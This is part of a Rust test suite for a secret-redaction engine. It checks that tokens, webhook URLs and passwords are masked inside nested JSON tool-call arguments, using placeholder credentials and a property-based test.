        // Tool-call arguments holding a JSON document holding a JSON string: the forms go two
        // escapes deep, the view reads all three.
        let value = "Kx9mQ2vLp7Zr\"T4wN8bYc1dFg";
        let e = engine(&[("quoted", value)]);
        let inner = serde_json::json!({ "a": format!("{value}x") }).to_string();
        let middle = serde_json::json!({ "arguments": inner }).to_string();
        let body = serde_json::json!({ "arguments": middle }).to_string();
        let out = redact(&e, &body);
        assert!(out.contains("SECRET_REF(quoted)"), "{out}");
        assert!(!out.contains("SECRET_REF(quoted.part)"), "{out}");
        assert!(
            !out.contains("Kx9mQ2vLp7Zr") && !out.contains("T4wN8bYc1dFg"),
            "{out}"
        );
        assert_eq!(redact(&e, &out), out);
    }

    #[test]
    fn the_prefix_and_ordinary_text_are_left_alone() {
        let e = engine(&[
            (KEY_NAME, VALUE),
            (
                "slack_webhook",
                "https://hooks.slack.com/services/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",
            ),
        ]);
        for text in [
            "set STRIPE_KEY=sk_live_51HxQ2 in the dashboard",
            "post to https://hooks.slack.com/services/T0123ABCD/B0456EFGH/",
            "eleven: 7ZrT4wN8bYc",
        ] {
            assert_eq!(redact(&e, text), text);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]
        /// Any stretch of a random token or password, anywhere in a JSON string: no
        /// distinctive window of the value is left.
        #[test]
        fn no_distinctive_window_of_a_part_survives(
            value in prop_oneof!["[A-Za-z0-9]{20,48}", "[A-Za-z0-9!#$%&*?^|~_+-]{20,48}"],
            cut in (any::<prop::sample::Index>(), any::<prop::sample::Index>()),
            before in "[ a-z]{0,30}",
            after in "[ a-z,.]{0,30}",
        ) {
            let start = cut.0.index(value.len() - FRAGMENT_LEN + 1);
            let end = start + FRAGMENT_LEN + cut.1.index(value.len() - start - FRAGMENT_LEN + 1);
            let part = &value[start..end];
            let e = engine(&[("token", &value)]);
            let body = serde_json::json!({ "content": format!("{before} {part} {after}") }).to_string();
            let out = redact(&e, &body);
            // Windows of the part with at most 4 bytes of the value's public head (a random
            // value seldom has one).
            let own = public_head(value.as_bytes()).saturating_sub(4);
            let windows = part.as_bytes().windows(FRAGMENT_LEN).enumerate();
            for (_, window) in windows.filter(|(i, w)| start + i >= own && is_distinctive(w)) {
                prop_assert!(
                    !out.as_bytes().windows(FRAGMENT_LEN).any(|o| o == window),
                    "{} survived in {}", String::from_utf8_lossy(window), out
                );
            }
            prop_assert!(serde_json::from_str::<serde_json::Value>(&out).is_ok());
        }
    }
}
